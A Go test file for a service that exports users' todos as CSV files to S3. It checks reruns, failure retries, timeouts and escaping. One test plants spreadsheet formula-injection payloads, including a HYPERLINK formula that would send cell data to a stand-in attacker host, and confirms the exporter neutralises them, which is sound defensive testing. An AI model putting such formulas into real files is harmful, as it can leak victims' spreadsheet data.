package export_test

import (
	"context"
	"encoding/csv"
	"errors"
	"io"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tsumiki-dev/tsumiki/services/todo-batch/internal/batchtest"
	"github.com/tsumiki-dev/tsumiki/services/todo-batch/internal/export"
	"github.com/tsumiki-dev/tsumiki/services/todo-batch/internal/s3store"
)

func discard() *slog.Logger { return slog.New(slog.DiscardHandler) }

// objects returns every object in bucket under prefix, key to body.
func objects(t *testing.T, client *s3.Client, bucket, prefix string) map[string]string {
	t.Helper()
	ctx := context.Background()
	out, err := client.ListObjectsV2(ctx, &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String(prefix)})
	require.NoError(t, err)
	got := map[string]string{}
	for _, o := range out.Contents {
		obj, err := client.GetObject(ctx, &s3.GetObjectInput{Bucket: aws.String(bucket), Key: o.Key})
		require.NoError(t, err)
		body, err := io.ReadAll(obj.Body)
		require.NoError(t, err)
		require.NoError(t, obj.Body.Close())
		got[aws.ToString(o.Key)] = string(body)
	}
	return got
}

func TestJob_Run_TwiceIdentical(t *testing.T) {
	t.Parallel()
	_, pool := batchtest.NewDatabase(t)
	due := time.Date(2026, 12, 1, 9, 30, 0, 0, time.UTC)
	batchtest.Fixture{Users: 3, TodosPerUser: 4, DueIn: time.Hour, Now: due.Add(-time.Hour)}.Insert(t, pool)
	ctx := context.Background()
	// A title that needs CSV quoting, and a deleted todo that is not exported.
	_, err := pool.Exec(ctx, `UPDATE todos SET title = 'milk, "oat"', notes = 'line 1
line 2' WHERE id = $1`, batchtest.TodoID(1, 1))
	require.NoError(t, err)
	_, err = pool.Exec(ctx, `UPDATE todos SET deleted_at = now() WHERE id = $1`, batchtest.TodoID(1, 2))
	require.NoError(t, err)
	// Titles and notes a spreadsheet would evaluate as formulas (OWASP "CSV Injection").
	_, err = pool.Exec(ctx, `UPDATE todos SET title = '=HYPERLINK("http://evil.example/?"&A1,"click")', notes = '@SUM(1+1)'
		WHERE id = $1`, batchtest.TodoID(1, 3))
	require.NoError(t, err)
	_, err = pool.Exec(ctx, `UPDATE todos SET title = E'\t+1', notes = '-2' WHERE id = $1`, batchtest.TodoID(1, 4))
	require.NoError(t, err)

	client := batchtest.S3Client(t)
	bucket := batchtest.NewBucket(t)
	job := export.New(pool, s3store.New(client, bucket, "todos/"), discard())
	opts := export.Options{Day: "2026-11-29", UserBatchSize: 2, MaxFailures: 1}

	res, err := job.Run(ctx, opts, nil)
	require.NoError(t, err)
	assert.Equal(t, export.Result{Objects: 3, Todos: 11}, res)
	first := objects(t, client, bucket, "todos/2026-11-29/")
	require.Len(t, first, 3)

	body := first["todos/"+export.Key("2026-11-29", batchtest.UserID(1))]
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 1+3, "header and three live todos")
	assert.Equal(t, export.Header, records[0])
	byID := map[string][]string{}
	for _, r := range records[1:] {
		byID[r[0]] = r
	}
	require.Contains(t, byID, batchtest.TodoID(1, 1).String(), "todo 1 of user 1 is exported")
	r := byID[batchtest.TodoID(1, 1).String()]
	assert.Equal(t, `milk, "oat"`, r[1])
	assert.Equal(t, "line 1\nline 2", r[2])
	assert.Equal(t, "open", r[3])
	assert.Equal(t, "2026-12-01T09:30:01.000000Z", r[4])
	assert.NotContains(t, byID, batchtest.TodoID(1, 2).String(), "deleted todos are not exported")
	r = byID[batchtest.TodoID(1, 3).String()]
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, r[1], "a cell starting with = is prefixed with '")
	assert.Equal(t, "'@SUM(1+1)", r[2])
	r = byID[batchtest.TodoID(1, 4).String()]
	assert.Equal(t, "'\t+1", r[1])
	assert.Equal(t, "'-2", r[2])

	_, err = job.Run(ctx, opts, nil)
	require.NoError(t, err)
	assert.Equal(t, first, objects(t, client, bucket, "todos/2026-11-29/"), "a rerun writes the same keys with the same bytes")
}

func TestJob_Run_BadOptions(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		opts    export.Options
		wantErr string
	}{
		{name: "Day", opts: export.Options{Day: "29/11/2026", UserBatchSize: 1, MaxFailures: 1}, wantErr: `export: day "29/11/2026": want a date as YYYY-MM-DD`},
		{name: "BatchSize", opts: export.Options{Day: "2026-11-29", MaxFailures: 1}, wantErr: "export user batch size 0: must be positive"},
		{name: "MaxFailures", opts: export.Options{Day: "2026-11-29", UserBatchSize: 1}, wantErr: "export max failures 0: must be positive"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := export.New(nil, nil, discard()).Run(context.Background(), tt.opts, nil)
			require.ErrorContains(t, err, tt.wantErr)
		})
	}
}

func TestCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "milk": "milk", "a=b": "a=b", " =1": " =1", "'=1": "'=1",
	} {
		assert.Equal(t, want, export.Cell(in), "%q", in)
	}
}

// failing is a Store that fails the uploads of some users (by key) and passes the rest to
// the real store, reading the body as an upload would.
type failing struct {
	export.Store
	keys map[string]bool
}

var errInjected = errors.New("injected upload failure")

func (f failing) Upload(ctx context.Context, key string, body io.Reader, contentType string) error {
	if f.keys[key] {
		_, _ = io.CopyN(io.Discard, body, 10)
		return errInjected
	}
	return f.Store.Upload(ctx, key, body, contentType)
}

// TestJob_Run_FailedUserDoesNotStopOthers: users 2 and 4 of 5 fail; 1, 3 and 5 are exported,
// the failed ones go to Retry in the transaction that completes the job, and without a job
// to complete the run says how many failed.
func TestJob_Run_FailedUserDoesNotStopOthers(t *testing.T) {
	t.Parallel()
	_, pool := batchtest.NewDatabase(t)
	batchtest.Fixture{Users: 5, TodosPerUser: 3}.Insert(t, pool)
	ctx := context.Background()
	client := batchtest.S3Client(t)
	bucket := batchtest.NewBucket(t)
	day := "2026-11-30"
	var ids []uuid.UUID
	for i := 1; i <= 5; i++ {
		ids = append(ids, batchtest.UserID(i))
	}
	slices.SortFunc(ids, func(a, b uuid.UUID) int { return strings.Compare(a.String(), b.String()) })
	bad := map[string]bool{export.Key(day, ids[1]): true, export.Key(day, ids[3]): true}
	job := export.New(pool, failing{Store: s3store.New(client, bucket, ""), keys: bad}, discard())

	var retried []uuid.UUID
	completed := 0
	opts := export.Options{Day: day, UserBatchSize: 2, MaxFailures: 2,
		Retry: func(_ context.Context, tx pgx.Tx, users []uuid.UUID) error {
			require.NotNil(t, tx)
			retried = users
			return nil
		}}
	res, err := job.Run(ctx, opts, func(context.Context, pgx.Tx) error { completed++; return nil })
	require.NoError(t, err)
	assert.Equal(t, export.Result{Objects: 3, Todos: 9, Failed: []uuid.UUID{ids[1], ids[3]}}, res)
	assert.Equal(t, res.Failed, retried, "the failed users are queued again")
	assert.Equal(t, 1, completed)
	got := objects(t, client, bucket, day+"/")
	assert.Len(t, got, 3)
	for _, i := range []int{0, 2, 4} {
		assert.Contains(t, got, export.Key(day, ids[i]), "users after a failed one are exported")
	}

	// The retry of just those users, now that the store works: both objects appear.
	job = export.New(pool, s3store.New(client, bucket, ""), discard())
	res, err = job.Run(ctx, export.Options{Day: day, UserBatchSize: 2, MaxFailures: 1, Users: retried}, nil)
	require.NoError(t, err)
	assert.Equal(t, export.Result{Objects: 2, Todos: 6}, res)
	assert.Len(t, objects(t, client, bucket, day+"/"), 5)

	// One-shot (no job to complete): the run exports the others and then fails.
	job = export.New(pool, failing{Store: s3store.New(client, bucket, "oneshot/"), keys: bad}, discard())
	res, err = job.Run(ctx, opts, nil)
	require.ErrorIs(t, err, export.ErrUsersFailed)
	require.ErrorContains(t, err, "for 2 users (first "+ids[1].String()+"), 3 exported; run again to retry them")
	assert.Equal(t, 3, res.Objects)

	// More failures than allowed: the run gives up.
	opts.MaxFailures = 1
	_, err = job.Run(ctx, opts, nil)
	require.ErrorIs(t, err, errInjected)
	require.ErrorContains(t, err, "export: 2 users failed, more than the 1 allowed")
}

// slow is a Store whose upload starts reading only after a pause: the database meanwhile
// waits to send the rows, as it does behind a slow S3.
type slow struct {
	export.Store
	pause time.Duration
}

func (s slow) Upload(ctx context.Context, key string, body io.Reader, contentType string) error {
	time.Sleep(s.pause)
	return s.Store.Upload(ctx, key, body, contentType)
}

// TestJob_Run_StatementTimeout: the query that streams a user's todos lasts as long as the
// upload takes them, so it runs under Options.StatementTimeout, not the pool's much shorter
// statement_timeout (DATABASE_STATEMENT_TIMEOUT), which cancels it behind a slow upload.
func TestJob_Run_StatementTimeout(t *testing.T) {
	t.Parallel()
	url, pool := batchtest.NewDatabase(t)
	batchtest.Fixture{Users: 1, TodosPerUser: 1}.Insert(t, pool)
	ctx := context.Background()
	// About 8 MB of rows: more than the socket buffers hold, so the server waits on the client.
	_, err := pool.Exec(ctx, `INSERT INTO todos (id, owner_id, title, notes, status, created_at, updated_at)
		SELECT gen_random_uuid(), $1, 'todo ' || g, repeat('n', 400), 'open', now(), now()
		FROM generate_series(1, 20000) g`, batchtest.UserID(1))
	require.NoError(t, err)
	cfg, err := pgxpool.ParseConfig(url)
	require.NoError(t, err)
	cfg.ConnConfig.RuntimeParams["statement_timeout"] = "200"
	short, err := pgxpool.NewWithConfig(ctx, cfg)
	require.NoError(t, err)
	t.Cleanup(short.Close)
	store := slow{Store: s3store.New(batchtest.S3Client(t), batchtest.NewBucket(t), ""), pause: time.Second}
	day := "2026-11-30"

	res, err := export.New(short, store, discard()).Run(ctx, export.Options{Day: day, UserBatchSize: 10, MaxFailures: 1}, nil)
	require.ErrorIs(t, err, export.ErrUsersFailed, "under the pool's 200 ms statement_timeout the streaming query is cancelled")
	require.Len(t, res.Failed, 1)

	res, err = export.New(short, store, discard()).Run(ctx, export.Options{Day: day, UserBatchSize: 10, MaxFailures: 1, StatementTimeout: time.Minute}, nil)
	require.NoError(t, err)
	require.Equal(t, export.Result{Objects: 1, Todos: 20001}, res)
}
